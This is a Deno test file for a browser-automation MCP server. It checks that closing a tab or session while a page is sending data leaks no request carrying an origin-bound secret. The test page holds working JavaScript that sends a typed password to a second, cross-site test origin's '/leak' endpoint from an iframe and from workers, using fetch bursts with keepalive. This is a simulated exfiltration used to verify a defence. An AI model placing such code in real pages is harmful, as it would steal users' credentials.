/**
 * Closing a tab while the guard holds requests of its out-of-process iframe and workers: none
 * of them goes out unjudged. Chromium continues what a `Fetch` interception had paused when its
 * session goes away (the iframe's as the tab leaves for `about:blank`, every target's as the tab
 * or the context closes), so a page that keeps a burst of requests in flight loses nothing by
 * being closed mid-burst... unless the guard stops that. Here a secret is bound to B's origin;
 * the page on B hands it to a cross-site iframe on A (out of process) and to dedicated workers
 * (the page's and the iframe's), which send it to A as fast as they can, each with a harmless
 * tick to A beside it. The agent closes the tab (`tabs` close, `close_session`) mid-burst; once
 * A has heard no tick for a while, nothing carrying the value may have reached it. Over MCP
 * stdio, real Chromium.
 */
import { assertEquals, assertIncludes } from "./_assert.ts";
import { startTwoOrigins } from "./_two_origins.ts";
import type { McpHarness } from "./_mcp.ts";
import { startWithBoundSecret } from "./_bound_secret.ts";
import { eventually } from "./_util.ts";

const SECRET = "Zq7-hunter-Wv3x";

/** The burst: keepalive and plain requests to A carrying `v`, each with a tick beside it. */
const BURST = `function burst(a, v, who) {
  const go = () => {
    for (let i = 0; i < 2; i++) {
      fetch(a + "/leak?" + who + "=" + encodeURIComponent(v),
        { method: "POST", body: v, mode: "no-cors", keepalive: i % 2 === 0 }).catch(() => {});
      fetch(a + "/tick?" + who, { method: "POST", body: "t", mode: "no-cors", keepalive: true })
        .catch(() => {});
    }
  };
  setInterval(go, 2);
}`;

/** A's worker: bursts once told the value. */
const WORKER = `${BURST}
onmessage = (e) => burst(e.data.a, e.data.v, e.data.who);`;

/** The iframe's page on A: bursts itself and through its own worker once told the value. */
function framePage(): string {
  return `<title>f</title><script>${BURST}
    const w = new Worker("/w.js");
    onmessage = (e) => {
      burst(location.origin, e.data, "frame");
      w.postMessage({ a: location.origin, v: e.data, who: "frameworker" });
    };
  </script>`;
}

/** B's page: the value typed in `pw` goes to the iframe on A and to B's own worker. */
function topPage(a: string): string {
  return `<title>p</title><input id=pw aria-label=pw>
  <iframe id=f src="${a}/frame"></iframe><script>
    const w = new Worker("/w.js");
    const pw = document.getElementById("pw");
    pw.oninput = () => {
      if (pw.value.length < ${SECRET.length}) return;
      document.getElementById("f").contentWindow.postMessage(pw.value, "*");
      w.postMessage({ a: "${a}", v: pw.value, who: "worker" });
    };
  </script>`;
}

/** Serves the pages, binds the secret to B, and runs the attack once, closing by `closeBy`. */
async function attack(
  closeBy: (mcp: McpHarness) => Promise<unknown>,
  options: { again?: boolean } = {},
): Promise<void> {
  const srv = startTwoOrigins((a) => ({
    "/p": topPage(a),
    "/frame": framePage(),
    "/w.js": WORKER,
  }));
  const { mcp, close } = await startWithBoundSecret(srv.b, SECRET);
  /** What reached A carrying the value: how many, by sender. */
  const leaked = () => {
    const by: Record<string, number> = {};
    for (const h of srv.hits) {
      if (h.srv !== "A" || !(h.path + h.body).includes("hunter")) continue;
      const who = h.path.split("=")[0]!;
      by[who] = (by[who] ?? 0) + 1;
    }
    return by;
  };
  const ticks = () => srv.hits.filter((h) => h.srv === "A" && h.path.startsWith("/tick")).length;
  try {
    await mcp.ok("navigate", { url: `${srv.b}/p`, snapshot: "none" });
    const before = srv.hits.length;
    // The fill's own result already tells of refused requests (the burst began).
    const filled = await mcp.call("fill", {
      selector: "#pw",
      value: "{{secret:PW}}",
      snapshot: "none",
    });
    assertIncludes(JSON.stringify(filled), "secret-origin");
    // Mid-burst: the iframe and both workers are sending.
    await eventually(
      () =>
        ["frame", "frameworker", "worker"].every((who) =>
          srv.hits.slice(before).some((h) => h.path === `/tick?${who}`)
        ),
      15_000,
      "ticks from the iframe and both workers",
    );
    await closeBy(mcp);
    // The closed tab's burst is over once A heard no tick for 1.5 s.
    const quiet = async () => {
      let last = ticks(), at = Date.now();
      await eventually(
        () => {
          const n = ticks();
          if (n !== last) [last, at] = [n, Date.now()];
          return Date.now() - at > 1500;
        },
        30_000,
        "the burst to end",
      );
    };
    await quiet();
    if (options.again) {
      // The page again, its iframe on A in the process the closed one had: measured, what the
      // closed iframe had queued went out then (no fill: this page sends nothing of its own).
      const frames = () => srv.hits.filter((h) => h.srv === "A" && h.path === "/frame").length;
      const had = frames();
      await mcp.call("navigate", { url: `${srv.b}/p`, snapshot: "none" });
      await eventually(() => frames() > had, 15_000, "the iframe loaded again");
      await quiet();
    }
    assertEquals(leaked(), {});
  } finally {
    await close();
    await srv.close();
  }
}

// Each takes 20-60 s (the burst saturates the browser). Before still_subframes.ts, `tabs` close
// failed 4 runs of 4 (27 to 74 values reached A, from the iframe and both workers: requests
// paused on the iframe's session as it went, and the page's worker outliving its page).
// close_session passed on main, 4 of 4: a guard for the same path.
Deno.test(
  "close_session mid-burst: its iframe's and workers' paused requests are not let out",
  () => attack((mcp) => mcp.call("close_session", { session: "default" })),
);

Deno.test("tabs close mid-burst: its iframe's and workers' paused requests are not let out", () =>
  attack(async (mcp) => {
    // Mid-burst a call may answer blocked-by-policy for what it saw refused.
    await mcp.call("tabs", { action: "new" });
    await mcp.call("tabs", { action: "close", index: 0 });
  }, { again: true }));
